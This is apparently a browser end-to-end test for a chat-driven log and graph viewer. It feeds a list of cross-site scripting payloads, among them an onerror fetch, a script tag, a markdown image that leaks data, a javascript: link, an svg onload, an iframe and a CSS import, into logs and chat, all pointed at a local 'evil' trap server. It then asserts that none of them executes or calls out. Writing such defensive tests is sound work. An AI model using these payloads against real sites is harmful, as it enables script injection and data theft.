import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { Visitor, walk } from './harness.mjs';
import { Server } from './server.mjs';

/** Whoever is called here was called by something that should have done nothing. */
async function trap() {
  const heard = [];
  const server = createServer((request, response) => {
    heard.push(request.url);
    response.end();
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${server.address().port}`, heard, close: () => server.close() };
}

walk('what logs and graphs say is never run, and loads nothing', async ({ browser, lang }) => {
  const evil = await trap();
  const payloads = [
    `<img src=x onerror="fetch('${evil.url}/img')">`,
    `<script>fetch('${evil.url}/script')</script>`,
    `![secret](${evil.url}/picture?d=secret)`,
    `[click](javascript:fetch('${evil.url}/link'))`,
    `<svg onload=fetch('${evil.url}/svg')>`,
    `"><iframe src="${evil.url}/frame"></iframe>`,
    `<style>@import url(${evil.url}/style)</style>`,
  ];
  const at = new Date(Date.now() - 60_000).toISOString();
  const lines = payloads.map((message, n) => ({ created_at: at, level: 'ERROR', service: n === 0 ? payloads[0] : 'shop', log_type: 'BACKEND', message, user_id: payloads[2] }));
  const server = await Server.start({ lines });
  const v = await Visitor.come(browser, server.url, lang);
  await v.page.evaluate(() => {
    globalThis.ran = false;
    globalThis.alert = () => (globalThis.ran = true);
  });
  await v.ask(v.say('최근 1시간 shop 에러 로그 보여줘', 'show the error logs of shop in the last hour'));
  await v.settled();
  const turn = v.turns.last();
  await turn.locator('table').waitFor();
  assert.ok((await turn.getByText('onload=fetch').count()) > 0, 'it is shown as what it is: text');
  await v.ask(v.say('최근 1시간 서비스별 에러 건수', 'errors by service in the last hour'));
  await v.page.waitForFunction(() => document.querySelectorAll('article').length === 2);
  await v.settled();
  // The same through a graph's own text, which is shown as Markdown.
  await v.button('새 대화', 'New conversation').click();
  await v.choose('article');
  await v.ask(payloads.join('\n\n'));
  await v.button('발행', 'Publish').waitFor();
  await v.page.waitForTimeout(500);
  assert.equal(await v.page.locator('article img, article script, article iframe, article [href^="javascript"]').count(), 0);
  assert.equal(await v.page.evaluate(() => globalThis.ran), false);
  assert.deepEqual(evil.heard, [], 'nobody was called');
  const policy = (await fetch(server.url, { headers: { accept: 'text/html' } })).headers.get('content-security-policy');
  assert.match(policy, /^default-src 'self';/);
  await v.leave();
  await server.end();
  evil.close();
});
